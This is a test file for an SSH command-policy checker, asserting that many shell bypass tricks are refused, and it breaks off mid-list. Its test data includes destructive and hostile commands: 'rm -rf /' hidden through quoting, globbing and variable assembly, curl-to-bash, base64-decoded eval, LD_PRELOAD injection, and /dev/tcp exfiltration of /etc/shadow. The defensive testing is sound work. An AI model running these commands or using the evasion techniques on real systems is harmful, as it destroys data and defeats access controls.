import { describe, expect, it } from 'vitest';
import type { CommandRules } from '../../../src/config/schema.js';
import { isSshgateError } from '../../../src/errors.js';
import {
  CONSTRUCT_DESCRIPTIONS,
  CONSTRUCTS,
  DEFAULT_MAX_COMMAND_BYTES,
  assertCommandAllowed,
  checkCommand,
  type CommandConstruct,
} from '../../../src/policy/command-policy.js';

/** A host with a deny list only: the speed-bump mode. */
const DENY: CommandRules = { deny: ['^rm\\b', '>\\S*/etc/', '^(shutdown|reboot)\\b'] };

/** A host with an allow list: the strong mode. */
const ALLOW: CommandRules = {
  allow: [
    '^ls( -\\w+)*( /[\\w./-]*)*$',
    '^grep( -\\w+)* \\w+( /[\\w./-]*)*$',
    '^systemctl status [\\w.@-]+$',
    '^journalctl -u [\\w.@-]+ --since \\w+$',
    '^df -h$',
    '^ps aux$',
    '^tail -n \\d+ /var/log/(?!.*\\.\\.)[\\w./-]+$',
    '^cat /etc/os-release$',
    '^echo [\\w ]*$',
  ],
};

const allowing = (...constructs: CommandConstruct[]): CommandRules => ({ ...DENY, allow_constructs: constructs });

interface Attack {
  attack: string;
  command: string;
  rules?: CommandRules;
  /** The rule that must fire. */
  rule: string;
  /** The simple command it must fire on, when not the whole command. */
  on?: string;
}

const c = (construct: CommandConstruct): string => `construct:${construct}`;

function expectRefused({ command, rules, rule, on }: Attack): void {
  const decision = checkCommand(command, rules);
  expect(decision).toMatchObject({ allowed: false, rule });
  if (decision.allowed) return;
  expect(decision.message).toContain(rule);
  if (on !== undefined) expect(decision.command).toBe(on);
}

describe('checkCommand refuses bypass attempts', () => {
  const quoting: Attack[] = [
    { attack: 'quote splicing r\'m\'', command: "r'm' -rf /", rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'double-quote splicing "r"m', command: '"r"m -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'empty quotes inside the name r""m', command: 'r""m -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'backslash inside the name r\\m', command: 'r\\m -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'leading backslash \\rm', command: '\\rm -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'line continuation inside the name', command: 'r\\\nm -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'ANSI-C hex $\'\\x72m\'', command: "$'\\x72m' -rf /", rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'ANSI-C octal $\'\\162\\155\'', command: "$'\\162\\155' -rf /", rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'ANSI-C unicode $\'\\u0072m\'', command: "$'\\u0072m' -rf /", rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'ANSI-C with a NUL that bash cuts at', command: "$'rm\\x00x' -rf /", rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'ANSI-C control escape \\c', command: "$'r\\cm' -rf /", rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'ANSI-C non-ASCII byte depends on the locale', command: "$'\\xe9' x", rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'locale translation $"rm"', command: '$"rm" -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'path to the binary /bin/rm', command: '/bin/rm -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'relative path ./rm', command: './rm -rf /', rules: DENY, rule: 'commands.deny[0]' },
  ];

  const expansion: Attack[] = [
    { attack: 'glob ? in command position /bin/r?', command: '/bin/r? -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'glob * in command position', command: '/bin/r* -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'bracket glob in command position', command: '/bin/[r]m -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'extglob in command position', command: '@(rm) -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'brace expansion {rm,-rf,/}', command: '{rm,-rf,/}', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'brace expansion inside the name r{m,}', command: 'r{m,} -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'brace sequence {r..r}m', command: '{r..r}m -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: '$IFS as a separator', command: 'rm${IFS}-rf${IFS}/', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'variable assembly a=r;b=m;$a$b', command: 'a=r;b=m;$a$b -rf /', rules: DENY, rule: c('dynamic_command_name'), on: '$a$b -rf /' },
    { attack: 'quoted variable as the name', command: 'x=rm; "$x" -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'default value as the name', command: '${x:-rm} -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'array expanded as the command', command: 'a=(rm -rf /); "${a[@]}"', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'array element as the name', command: 'a[0]=rm; ${a[0]} -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'tilde in command position', command: '~/rm -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'named tilde in command position', command: '~root/bin/rm -rf /', rules: DENY, rule: c('dynamic_command_name') },
    { attack: 'positional parameter as the name', command: '$1 -rf /', rules: DENY, rule: c('dynamic_command_name') },
  ];

  const separators: Attack[] = [
    { attack: 'semicolon', command: 'ls; rm -rf /', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'and list &&', command: 'ls && rm -rf /', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'or list ||', command: 'false || rm -rf /', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'pipe |', command: 'ls | rm -rf /', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'pipe with stderr |&', command: 'ls |& rm -rf /', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'background &', command: 'ls & rm -rf /', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'newline', command: 'ls\nrm -rf /', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'negation !', command: '! rm -rf /', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'subshell', command: '(rm -rf /)', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'group', command: '{ rm -rf /; }', rules: DENY, rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'if body', command: 'if true; then rm -rf /; fi', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'elif and else bodies', command: 'if false; then ls; elif false; then ls; else rm -rf /; fi', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'while body', command: 'while true; do rm -rf /; done', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'for body', command: 'for i in 1; do rm -rf /; done', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'case body', command: 'case x in x) rm -rf /;; esac', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'time keyword', command: 'time rm -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'coproc', command: 'coproc rm -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'named coproc', command: 'coproc N { rm -rf /; }', rules: DENY, rule: 'commands.deny[0]' },
    { attack: 'comment hides nothing', command: 'ls # harmless\nrm -rf /', rules: DENY, rule: 'commands.deny[0]' },
  ];

  const substitution: Attack[] = [
    { attack: 'command substitution $()', command: 'echo $(rm -rf /)', rule: c('command_substitution'), on: 'echo $(rm -rf /)' },
    { attack: 'backticks', command: 'echo `id`', rule: c('command_substitution') },
    { attack: 'command substitution inside double quotes', command: 'echo "$(id)"', rule: c('command_substitution') },
    { attack: 'command substitution in an assignment', command: 'x=$(id)', rule: c('command_substitution') },
    { attack: 'command substitution in a declaration', command: 'local x=$(id)', rule: c('command_substitution') },
    { attack: 'command substitution in a redirection target', command: 'cat > $(id)', rule: c('command_substitution') },
    { attack: 'command substitution in an unquoted here-document', command: 'cat <<EOF\n$(id)\nEOF', rule: c('command_substitution') },
    { attack: 'command substitution in a case pattern', command: 'case x in $(id)) ;; esac', rule: c('command_substitution') },
    { attack: 'command substitution in a for list', command: 'for f in $(id); do ls; done', rule: c('command_substitution') },
    { attack: 'command substitution in [[ ]]', command: '[[ $(id) ]]', rule: c('command_substitution') },
    { attack: 'command substitution in a parameter default ${x:-$(id)}', command: 'echo ${x:-$(id)}', rule: c('command_substitution') },
    { attack: 'command substitution in a replacement', command: 'echo ${x/a/$(id)}', rule: c('command_substitution') },
    { attack: 'command substitution in a pattern', command: 'echo ${x/$(id)}', rule: c('command_substitution') },
    { attack: 'command substitution in an array element', command: 'a=($(id))', rule: c('command_substitution') },
    { attack: 'arithmetic expansion with command substitution $(( $(id) ))', command: 'echo $(( $(id) ))', rule: c('command_substitution') },
    { attack: 'decode and eval', command: 'eval "$(echo cm0gLXJmIC8= | base64 -d)"', rule: c('command_substitution') },
    { attack: 'process substitution <()', command: 'cat <(id)', rule: c('process_substitution') },
    { attack: 'process substitution >() into a shell', command: 'echo id > >(sh)', rule: c('process_substitution') },
    { attack: 'inner commands still checked when substitution is allowed', command: 'echo $(rm -rf /)', rules: allowing('command_substitution'), rule: 'commands.deny[0]', on: 'rm -rf /' },
    { attack: 'a shell fed by an allowed process substitution', command: 'echo id > >(sh)', rules: allowing('process_substitution'), rule: c('pipe_to_shell') },
  ];

  const code: Attack[] = [
    { attack: 'eval', command: "eval 'rm -rf /'", rule: c('eval') },
    { attack: 'fc re-runs history through an editor', command: 'fc -s', rule: c('eval') },
    { attack: 'enable -f loads a builtin from a shared object', command: 'enable -f /tmp/x.so x', rule: c('eval') },
    { attack: 'mapfile -C callback', command: "mapfile -C 'rm -rf /' -c 1 x < /etc/hosts", rule: c('eval') },
    { attack: 'bind -x', command: 'bind -x \'"\\C-a": id\'', rule: c('eval') },
    { attack: 'complete -C', command: 'complete -C id x', rule: c('eval') },
    { attack: 'compgen -W expands its word list', command: "compgen -W '$(id)' x", rule: c('eval') },
    { attack: 'exec', command: 'exec rm -rf /', rule: c('exec') },
    { attack: 'exec of a shell', command: 'exec bash', rule: c('exec') },
    { attack: 'exec opening a file for writing', command: 'exec 3>/etc/passwd', rule: c('exec') },
    { attack: 'source', command: 'source /tmp/x.sh', rule: c('source') },
    { attack: 'dot', command: '. /tmp/x.sh', rule: c('source') },
    { attack: 'sh -c', command: "sh -c 'rm -rf /'", rule: c('shell_code') },
    { attack: 'bash -c', command: "bash -c 'rm -rf /'", rule: c('shell_code') },
    { attack: 'clustered options bash -xc', command: 'bash -xc id', rule: c('shell_code') },
    { attack: 'option with an argument before -c', command: 'bash -o errexit -c id', rule: c('shell_code') },
    { attack: '-c inside a cluster whose -o takes the next word', command: "bash -oc errexit 'id'", rule: c('shell_code') },
    { attack: 'long options before -c', command: '/bin/bash --norc --rcfile /dev/null -c id', rule: c('shell_code') },
    { attack: 'versioned shell name', command: 'bash5.2 -c id', rule: c('shell_code') },
    { attack: 'zsh -c', command: 'zsh -c id', rule: c('shell_code') },
    { attack: 'fish --command', command: 'fish --command=id', rule: c('shell_code') },
    { attack: 'PowerShell -Command', command: 'pwsh -Command Get-Process', rule: c('shell_code') },
    { attack: 'options hidden in a variable', command: 'bash $OPTS', rule: c('shell_code') },
    { attack: 'python -c', command: 'python3 -c \'import os; os.system("id")\'', rule: c('interpreter_code') },
    { attack: 'interpreter by absolute path', command: '/usr/bin/python3 -c 1', rule: c('interpreter_code') },
    { attack: 'versioned interpreter python3.12', command: 'python3.12 -c 1', rule: c('interpreter_code') },
    { attack: 'code attached to the option', command: "python3 '-cprint(1)'", rule: c('interpreter_code') },
    { attack: 'python -i reads code after the script', command: 'python3 -i app.py', rule: c('shell_stdin') },
    { attack: 'perl -e', command: 'perl -e \'system("id")\'', rule: c('interpreter_code') },
    { attack: 'perl -n -e cluster', command: "perl -ne 'print' /etc/hosts", rule: c('interpreter_code') },
    { attack: 'perl -M pastes code', command: "perl '-Mstrict;system q(id)' x.pl", rule: c('interpreter_code') },
    { attack: 'ruby -e', command: 'ruby -e \'system("id")\'', rule: c('interpreter_code') },
    { attack: 'node -e', command: "node -e 'require(\"child_process\").execSync(\"id\")'", rule: c('interpreter_code') },
    { attack: 'node --eval=', command: 'node --eval=1', rule: c('interpreter_code') },
    { attack: 'node --import data: URL', command: 'node --import data:text/javascript,1 app.js', rule: c('interpreter_code') },
    { attack: 'deno eval', command: 'deno eval 1', rule: c('interpreter_code') },
    { attack: 'php -r', command: 'php -r \'system("id");\'', rule: c('interpreter_code') },
    { attack: 'lua -e', command: 'lua5.4 -e \'os.execute("id")\'', rule: c('interpreter_code') },
    { attack: 'Rscript -e', command: "Rscript -e 'system(\"id\")'", rule: c('interpreter_code') },
    { attack: 'awk system()', command: 'awk \'BEGIN{system("id")}\'', rule: c('interpreter_code') },
    { attack: 'awk print into a pipe', command: 'awk \'{print | "sh"}\' /etc/hosts', rule: c('interpreter_code') },
    { attack: 'awk output redirection', command: 'awk \'{print > "/etc/passwd"}\' x', rule: c('interpreter_code') },
    { attack: 'awk program after options and --', command: 'gawk -F : -v x=1 -- \'BEGIN{system("id")}\'', rule: c('interpreter_code') },
    { attack: 'gawk --load extension', command: 'gawk --load=filefuncs 1', rule: c('interpreter_code') },
    { attack: 'awk program in a variable', command: 'awk "$P" /etc/hosts', rule: c('interpreter_code') },
    { attack: 'interpreter code with interpreter_code allowed still needs the launcher opt-in', command: 'timeout 1 python3 -c 1', rules: allowing('interpreter_code'), rule: c('launcher') },
  ];

  const stdin: Attack[] = [
    { attack: 'decode and pipe into sh', command: 'echo cm0gLXJmIC8= | base64 -d | sh', rule: c('pipe_to_shell'), on: 'sh' },
    { attack: 'curl into bash', command: 'curl -s http://example.invalid/x | bash', rule: c('pipe_to_shell') },
    { attack: 'pipe into bash -s with arguments', command: 'cat x | bash -s -- a b', rule: c('pipe_to_shell') },
    { attack: 'pipe into python -', command: 'cat x | python3 -', rule: c('pipe_to_shell') },
    { attack: 'pipe into a shell inside a group', command: 'echo id | { cat; sh; }', rule: c('pipe_to_shell') },
    { attack: 'coproc shell reads what is written to it', command: 'coproc sh', rule: c('pipe_to_shell') },
    { attack: 'here-document into sh', command: 'sh <<EOF\nrm -rf /\nEOF', rule: c('here_string_to_shell') },
    { attack: 'here-document with tabs stripped', command: 'bash <<-EOF\n\tid\n\tEOF', rule: c('here_string_to_shell') },
    { attack: 'here-string into bash', command: "bash <<< 'rm -rf /'", rule: c('here_string_to_shell') },
    { attack: 'here-string into a group running a shell', command: '{ bash; } <<< id', rule: c('here_string_to_shell') },
    { attack: 'file redirected into a shell', command: 'bash < /tmp/x.sh', rule: c('shell_stdin') },
    { attack: 'bare shell reads the call\'s stdin', command: 'bash', rule: c('shell_stdin') },
    { attack: 'bash -s reads stdin', command: 'bash -s', rule: c('shell_stdin') },
    { attack: 'bash - reads stdin', command: 'bash -', rule: c('shell_stdin') },
    { attack: 'bash -- with no script reads stdin', command: 'bash --', rule: c('shell_stdin') },
    { attack: 'bare REPL interpreter', command: 'irb', rule: c('shell_stdin') },
    { attack: 'php -a interactive', command: 'php -a', rule: c('shell_stdin') },
    { attack: 'pipe into bash /dev/stdin', command: 'echo id | bash /dev/stdin', rule: c('pipe_to_shell') },
    { attack: 'shell script from /proc/self/fd/0', command: 'bash /proc/self/fd/0 <<< id', rule: c('here_string_to_shell') },
    { attack: 'shell script from /dev/fd/0 after --', command: 'sh -- /dev/fd/0', rule: c('shell_stdin') },
    { attack: 'php -f /dev/stdin', command: 'echo x | php -f /dev/stdin', rule: c('pipe_to_shell') },
    { attack: 'python -m with no module', command: 'python3 -m', rule: c('shell_stdin') },
    { attack: 'awk program from stdin', command: "echo 'BEGIN{system(\"id\")}' | awk -f /dev/stdin", rule: c('pipe_to_shell') },
    { attack: 'awk program file attached', command: 'awk --file=- x', rule: c('shell_stdin') },
    { attack: 'awk -f with nothing after it', command: 'awk -f', rule: c('shell_stdin') },
  ];

  const launchers: Attack[] = [
    { attack: 'env as a launcher', command: 'env rm -rf /', rule: c('launcher') },
    { attack: 'env -S splits a string into a command', command: "env -S 'rm -rf /'", rule: c('launcher') },
    { attack: 'env with a dynamic argument', command: 'env $X', rule: c('launcher') },
    { attack: 'nice', command: 'nice rm -rf /', rule: c('launcher') },
    { attack: 'timeout', command: 'timeout 5 rm -rf /', rule: c('launcher') },
    { attack: 'nohup', command: 'nohup rm -rf / &', rule: c('launcher') },
    { attack: 'sudo', command: 'sudo rm -rf /', rule: c('launcher') },
    { attack: 'busybox applet', command: 'busybox sh -c id', rule: c('launcher') },
    { attack: 'command prefix', command: 'command rm -rf /', rule: c('launcher') },
    { attack: 'command -p prefix', command: 'command -p rm -rf /', rule: c('launcher') },
    { attack: 'builtin prefix', command: 'builtin eval id', rule: c('launcher') },
    { attack: 'ssh to a third host', command: "ssh other 'rm -rf /'", rule: c('launcher') },
    { attack: 'sudo running a command', command: 'sudo -u root ls', rule: c('launcher') },
    { attack: 'crontab installing a file', command: 'crontab /tmp/jobs', rule: c('launcher') },
    { attack: 'crontab with a dynamic argument', command: 'crontab -l $X', rule: c('launcher') },
    { attack: 'dynamic loader running a binary', command: '/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /', rule: c('launcher') },
    { attack: 'setarch', command: 'setarch x86_64 sh', rule: c('launcher') },
    { attack: 'npx runs a package', command: 'npx some-package', rule: c('launcher') },
    { attack: 'xargs', command: 'echo / | xargs rm -rf', rule: c('xargs') },
    { attack: 'parallel', command: 'parallel rm ::: /', rule: c('xargs') },
    { attack: 'find -exec', command: 'find / -exec rm -rf {} \\;', rule: c('find_exec') },
    { attack: 'find -execdir', command: 'find / -execdir rm {} +', rule: c('find_exec') },
    { attack: 'find -ok', command: 'find / -ok rm {} \\;', rule: c('find_exec') },
    { attack: 'find with a dynamic argument', command: 'find . $X', rule: c('find_exec') },
    { attack: 'shell behind an allowed launcher', command: 'timeout 5 bash -c id', rules: allowing('launcher'), rule: c('shell_code') },
    { attack: 'denied command behind an allowed launcher', command: 'timeout 5 rm -rf /', rules: allowing('launcher'), rule: 'commands.deny[0]' },
    { attack: 'denied command behind allowed find -exec', command: 'find / -exec rm -rf {} \\;', rules: allowing('find_exec'), rule: 'commands.deny[0]' },
    { attack: 'denied command behind allowed xargs', command: 'echo / | xargs rm -rf', rules: allowing('xargs'), rule: 'commands.deny[0]' },
    { attack: 'dynamic command behind an allowed launcher', command: 'sudo $CMD', rules: allowing('launcher'), rule: c('dynamic_command_name') },
    { attack: 'launcher chain with launchers allowed', command: 'nice nohup env sh', rules: allowing('launcher'), rule: c('shell_stdin') },
  ];

  const environment: Attack[] = [
    { attack: 'LD_PRELOAD prefix assignment', command: 'LD_PRELOAD=/tmp/x.so ls', rule: c('env_injection') },
    { attack: 'PATH prefix assignment', command: 'PATH=/tmp:$PATH ls', rule: c('env_injection') },
    { attack: 'PATH assignment then a command', command: 'PATH=/tmp; ls', rule: c('env_injection') },
    { attack: 'export PATH', command: 'export PATH=/tmp', rule: c('env_injection') },
    { attack: 'escaped export is still the builtin', command: '\\export PATH=/tmp', rule: c('env_injection') },
    { attack: 'quoted declare is still the builtin', command: "'declare' -n r=x", rule: c('indirect_expansion') },
    { attack: 'export of a quoted assignment', command: 'export "LD_PRELOAD=/tmp/x.so"', rule: c('env_injection') },
    { attack: 'export of a dynamic word', command: 'export "$X"', rule: c('env_injection') },
    { attack: 'BASH_ENV for a child bash', command: 'BASH_ENV=/tmp/x bash x.sh', rule: c('env_injection') },
    { attack: 'PS4 with xtrace', command: "PS4='$(id)' bash -x x.sh", rule: c('env_injection') },
    { attack: 'GIT_SSH_COMMAND', command: 'GIT_SSH_COMMAND=id git fetch', rule: c('env_injection') },
    { attack: 'PAGER', command: 'PAGER=id man ls', rule: c('env_injection') },
    { attack: 'BASH_ALIASES defines an alias', command: "BASH_ALIASES[ls]='rm -rf /'", rule: c('env_injection') },
    { attack: 'read into PATH', command: 'read PATH < /tmp/p', rule: c('env_injection') },
    { attack: 'printf -v into PATH', command: 'printf -v PATH /tmp', rule: c('env_injection') },
    { attack: 'for loop variable PATH', command: 'for PATH in /tmp; do ls; done', rule: c('env_injection') },
    { attack: 'hash -p maps a name to a file', command: 'hash -p /tmp/evil ls', rule: c('env_injection') },
    { attack: 'set -k makes arguments assignments', command: 'set -k; ls LD_PRELOAD=/tmp/x.so', rule: c('env_injection') },
    { attack: 'set -o keyword', command: 'set -o keyword', rule: c('env_injection') },
    { attack: 'set with a dynamic argument', command: 'set $X', rule: c('env_injection') },
    { attack: 'locale change alters how later bytes parse', command: 'LC_ALL=zh_CN.GBK; ls', rule: c('env_injection') },
    { attack: 'locale from a variable', command: 'LANG=$L ls', rule: c('env_injection') },
    { attack: 'locale exported by name', command: 'export LC_CTYPE', rule: c('env_injection') },
    { attack: 'readonly bare name is checked', command: 'readonly LD_PRELOAD', rule: c('env_injection') },
    { attack: 'alias', command: "alias ls='rm -rf /'", rule: c('alias') },
    { attack: 'alias with a dynamic definition', command: 'alias "$A"', rule: c('alias') },
    { attack: 'shopt expand_aliases', command: 'shopt -s expand_aliases', rule: c('alias') },
    { attack: 'function shadowing', command: 'f(){ rm -rf /; }; f', rule: c('function_definition') },
    { attack: 'function keyword shadowing ls', command: 'function ls { rm -rf /; }; ls', rule: c('function_definition') },
    { attack: 'function body checked when functions are allowed', command: 'f(){ rm -rf /; }; f', rules: allowing('function_definition'), rule: 'commands.deny[0]' },
    { attack: 'trap', command: "trap 'rm -rf /' EXIT", rule: c('trap') },
    { attack: 'trap after --', command: "trap -- 'rm -rf /' EXIT", rule: c('trap') },
    { attack: 'trap with a dynamic action', command: 'trap "$A"', rule: c('trap') },
  ];

  const evaluation: Attack[] = [
    { attack: 'variable evaluated by arithmetic expansion', command: "x='a[$(id)]'; echo $((x))", rule: c('arithmetic') },
    { attack: 'parameter inside arithmetic', command: 'echo $(( $x + 1 ))', rule: c('arithmetic') },
    { attack: 'old-style $[...] arithmetic', command: 'echo $[x]', rule: c('arithmetic') },
    { attack: 'arithmetic command', command: '(( x ))', rule: c('arithmetic') },
    { attack: 'let', command: 'let x=1', rule: c('arithmetic') },
    { attack: 'escaped let', command: '\\let x=1', rule: c('arithmetic') },
    { attack: 'C-style for loop', command: 'for ((i=0; i<3; i++)); do ls; done', rule: c('arithmetic') },
    { attack: '[[ -eq ]] evaluates its operands', command: '[[ $x -eq 1 ]]', rule: c('arithmetic') },
    { attack: '[[ -v ]] with a subscript', command: "[[ -v 'a[$(id)]' ]]", rule: c('arithmetic') },
    { attack: '[[ -v ]] with a dynamic name', command: '[[ -v $n ]]', rule: c('arithmetic') },
    { attack: 'test -v with a subscript', command: "test -v 'a[$(id)]'", rule: c('arithmetic') },
    { attack: '[ -v with a dynamic name', command: '[ -v "$n" ]', rule: c('arithmetic') },
    { attack: 'read into a subscript', command: "read 'a[$(id)]' < /etc/hosts", rule: c('arithmetic') },
    { attack: 'read into a dynamic name', command: 'read "$n" < /etc/hosts', rule: c('arithmetic') },
    { attack: 'printf -v into a subscript', command: "printf -v 'a[$(id)]' x", rule: c('arithmetic') },
    { attack: 'wait -p into a dynamic name', command: 'wait -p "$n"', rule: c('arithmetic') },
    { attack: 'unset of a subscript', command: "unset 'a[$(id)]'", rule: c('arithmetic') },
    { attack: 'declare of a quoted subscript assignment', command: "declare 'a[$(id)]=1'", rule: c('arithmetic') },
    { attack: 'declare -i evaluates assignments', command: 'declare -i x=1', rule: c('arithmetic') },
    { attack: 'variable array subscript', command: 'echo ${a[x]}', rule: c('arithmetic') },
    { attack: 'variable in an assignment subscript', command: 'a[i]=1', rule: c('arithmetic') },
    { attack: 'variable in a declaration subscript', command: 'declare a[i]', rule: c('arithmetic') },
    { attack: 'variable in an array element index', command: 'a=([i]=1)', rule: c('arithmetic') },
    { attack: 'variable substring offset', command: 'echo ${x:n}', rule: c('arithmetic') },
    { attack: 'variable substring length', command: 'echo ${x:1:n}', rule: c('arithmetic') },
    { attack: 'indirect expansion ${!x}', command: 'echo ${!x}', rule: c('indirect_expansion') },
    { attack: 'indirect expansion through an element ${!a[0]}', command: 'echo ${!a[0]}', rule: c('indirect_expansion') },
    { attack: 'prompt expansion ${x@P}', command: 'echo ${x@P}', rule: c('indirect_expansion') },
    { attack: 'nameref declare -n', command: 'declare -n r=x', rule: c('indirect_expansion') },
    { attack: 'nameref local -n', command: 'local -n r', rule: c('indirect_expansion') },
  ];

  const redirection: Attack[] = [
    { attack: 'overwrite /etc/passwd', command: 'echo x > /etc/passwd', rules: DENY, rule: 'commands.deny[1]' },
    { attack: 'redirection alone > /etc/passwd', command: '> /etc/passwd', rules: DENY, rule: 'commands.deny[1]', on: '> /etc/passwd' },
    { attack: 'append to /etc/passwd', command: 'cat x >> /etc/passwd', rules: DENY, rule: 'commands.deny[1]' },
    { attack: 'clobber >|', command: 'echo x >| /etc/passwd', rules: DENY, rule: 'commands.deny[1]' },
    { attack: 'fd number before >', command: 'echo x 1>/etc/passwd', rules: DENY, rule: 'commands.deny[1]' },
    { attack: '&> both streams', command: 'id &>/etc/passwd', rules: DENY, rule: 'commands.deny[1]' },
    { attack: '>& with a file name', command: 'id >&/etc/passwd', rules: DENY, rule: 'commands.deny[1]' },
    { attack: 'quoted target', command: 'echo x > "/etc/"passwd', rules: DENY, rule: 'commands.deny[1]' },
    { attack: 'redirection before the command', command: '>/etc/passwd echo x', rules: DENY, rule: 'commands.deny[1]' },
    { attack: 'redirection of a group', command: '{ echo x; } > /etc/passwd', rules: DENY, rule: 'commands.deny[1]', on: '> /etc/passwd' },
    { attack: 'redirection of a subshell', command: '(echo x) >> /etc/shadow', rules: DENY, rule: 'commands.deny[1]' },
    { attack: 'denied command with a prefix assignment', command: 'X=1 rm -rf /', rules: DENY, rule: 'commands.deny[0]' },
    { attack: '/dev/tcp exfiltration', command: 'cat /etc/shadow > /dev/tcp/192.0.2.1/80', rule: c('network_redirection') },
    { attack: '/dev/udp', command: 'cat < /dev/udp/192.0.2.1/53', rule: c('network_redirection') },
    { attack: 'shutdown', command: 'shutdown -h now', rules: DENY, rule: 'commands.deny[2]' },
  ];

  const allowList: Attack[] = [
    { attack: 'a second command not on the allow list', command: 'ls -la /var/log; rm -rf /', rules: ALLOW, rule: 'commands.allow', on: 'rm -rf /' },
    { attack: 'output redirection is part of the match', command: 'ls -la /var/log > /etc/passwd', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'prefix assignment is part of the match', command: 'FOO=1 ls', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'glob argument is dynamic', command: 'ls /var/log/*', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'variable argument is dynamic', command: 'ls $HOME', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'tilde argument is dynamic', command: 'ls ~', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'tilde after = is dynamic', command: 'ls --x=~', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'brace argument is dynamic', command: 'cat /etc/{passwd,shadow}', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'dynamic redirection target', command: 'ls > $F', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'here-document with an expansion', command: 'cat <<EOF\n$HOME\nEOF', rules: { allow: ['^cat <<EOF$'] }, rule: 'commands.allow' },
    { attack: 'a copy of an allowed binary elsewhere', command: '/tmp/ls -la', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'extra arguments', command: 'cat /etc/os-release /etc/shadow', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'pure assignment', command: 'x=1', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'declaration', command: 'export FOO=1', rules: ALLOW, rule: 'commands.allow' },
    { attack: 'redirection of a group', command: '{ ls; } > /tmp/x', rules: ALLOW, rule: 'commands.allow', on: '> /tmp/x' },
    { attack: 'dynamic redirection of a group', command: '{ ls; } > $F', rules: ALLOW, rule: 'commands.allow', on: '> $F' },
    { attack: 'an empty allow list allows nothing', command: 'ls', rules: { allow: [] }, rule: 'commands.allow' },
  ];

  const hygiene: Attack[] = [
    { attack: 'NUL byte', command: 'ls\u0000rm -rf /', rule: 'control_character' },
    { attack: 'carriage return', command: 'ls\rrm -rf /', rule: 'control_character' },
    { attack: 'escape sequence', command: 'ls \u001b[2K', rule: 'control_character' },
    { attack: 'DEL', command: 'ls\u007f', rule: 'control_character' },
    { attack: 'C1 control', command: 'ls\u0085', rule: 'control_character' },
    { attack: 'bidi override hides the real text', command: 'ls \u202erm -rf /', rule: 'control_character' },
    { attack: 'zero-width space', command: 'r\u200bm -rf /', rule: 'control_character' },
    { attack: 'line separator', command: 'ls\u2028rm', rule: 'control_character' },
    { attack: 'lone surrogate', command: 'ls \ud800', rule: 'control_character' },
    { attack: 'longer than the default limit', command: `echo ${'a'.repeat(DEFAULT_MAX_COMMAND_BYTES)}`, rule: 'max_length' },
    { attack: 'multi-byte characters over the limit', command: `echo ${'é'.repeat(10)}`, rules: { max_length: 20 }, rule: 'max_length' },
    { attack: 'unterminated quote', command: "echo 'rm -rf /", rule: 'parse_error' },
    { attack: 'dangling operator', command: '&& rm -rf /', rule: 'parse_error' },
    { attack: 'stray parenthesis', command: 'echo )', rule: 'parse_error' },
    { attack: 'nesting deeper than the parser stack', command: `echo ${'$('.repeat(2000)}x${')'.repeat(2000)}`, rule: 'parse_error' },
    { attack: 'empty command', command: '', rule: 'empty_command' },
    { attack: 'only a comment', command: '  # rm -rf /', rule: 'empty_command' },
  ];

  const groups: [string, Attack[]][] = [
    ['quoting and escapes', quoting],
    ['expansions in command position', expansion],
    ['separators and compound commands', separators],
    ['substitutions', substitution],
    ['code in strings', code],
    ['shells reading stdin', stdin],
    ['launchers', launchers],
